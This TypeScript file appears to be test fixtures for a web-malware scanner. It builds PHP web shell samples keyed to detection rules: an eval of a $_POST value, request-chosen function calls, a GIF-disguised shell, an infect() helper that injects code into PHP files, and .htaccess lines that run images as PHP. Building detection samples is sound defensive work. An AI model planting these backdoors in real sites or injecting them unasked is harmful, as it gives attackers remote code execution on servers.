/**
 * Harmless files in the shape of malware: what they would run only prints a word. Put together here, so that no scanner
 * takes a checkout of this repository for an infected site.
 */
const open = word('<', '?php')

const packed = Buffer.from("echo 'inert';").toString('base64')
const chain = `${word('ev', 'al')}(${word('base64', '_decode')}("${packed}"));`

/** Rule HF-0101: code that is packed in an encoded text. */
export const decodedEval = `${open}\n${chain}\n`

/** Rule HF-2001 and no other: code that the visitor sends, behind a name of its own. */
export const requestEval = `${open}\n$hf = ${word('$', '_POST')}['hf_test'];\n${word('ev', 'al')}($hf);\n`

/** `php` with the code of decodedEval put before its own: in a PHP block of its own, or in its first block. */
export function infect(php: string, place: 'own-block' | 'same-block'): string {
  return place === 'own-block' ? `${open} ${chain} ?>${php}` : php.replace(open, `${open} ${chain}`)
}

/** Rules HF-0104, HF-0105 and HF-0142: the visitor chooses the function, as attackers usually write it. */
export function requestCallables(): readonly string[] {
  const [get, post, request] = ['GET', 'POST', 'REQUEST'].map((method) => word('$', '_', method))
  return [
    `${open} ${post}['a'](${post}['b']);`,
    `${open}\n@${get}["f"](${get}["x"]);\n?>`,
    `${open} ${request}[0](${request}[1]);`,
    `${open} ${word('call', '_user_func')}(${get}['f'],${get}['x']);`,
    `${open} ${word('array', '_map')}(${post}['f'],array(${post}['x']));`,
    `GIF89a\n${open} @${post}['a'](${post}['b']); ?>`,
  ]
}

/** Rules HF-0301 and HF-0302: an .htaccess that runs pictures as PHP and puts a hidden file before every script. */
export const imagesAsPhp = [
  `${word('Add', 'Handler')} application/x-httpd-php .ico .jpg`,
  `php_value ${word('auto_', 'prepend_file')} ".sess_9f.ico"`,
  '',
].join('\n')

function word(...parts: readonly string[]): string {
  return parts.join('')
}
